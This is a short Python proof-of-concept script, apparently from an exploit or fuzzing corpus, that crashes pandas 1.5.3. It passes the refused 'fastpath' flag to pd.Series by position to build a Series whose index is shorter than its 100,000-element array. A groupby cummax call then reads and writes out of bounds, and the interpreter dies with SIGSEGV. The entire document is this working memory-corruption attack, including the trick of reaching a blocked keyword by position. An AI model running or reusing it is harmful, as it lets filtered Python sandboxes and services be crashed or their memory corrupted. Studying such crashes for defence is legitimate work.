# source: pandas 1.5.3 pandas/core/series.py Series.__init__ (6th positional parameter fastpath skips the length check: SingleBlockManager.from_array, and blocks.check_ndim checks no length for 1-D extension arrays); pandas/_libs/groupby.pyx group_cumsum/group_cummin_max/group_ohlc loop over len(values) and read labels[i] unchecked
# family: refused keyword (fastpath) reached by position in pd.Series, constructor called directly or taken as a value; Series whose index is shorter than its extension array, then a groupby kernel reads/writes past the labels buffer
# goal: out-of-bounds read of the groupby labels array and write into accum[lab] at a garbage label: the interpreter dies with SIGSEGV (exit 139)
import itertools

import numpy as np
import pandas as pd


def build(vals, n, ctor=pd.Series):
    return ctor(vals, pd.RangeIndex(n), None, None, False, True)


vals = pd.array(np.ones(100000, dtype=np.int64), dtype="Float64")
s = list(itertools.starmap(build, [(vals, 2)]))[0]
print("len(s) =", len(s), " len(s.array) =", len(s.array), flush=True)
g = s.groupby(np.zeros(2, dtype=np.int64))
print(g.cummax())
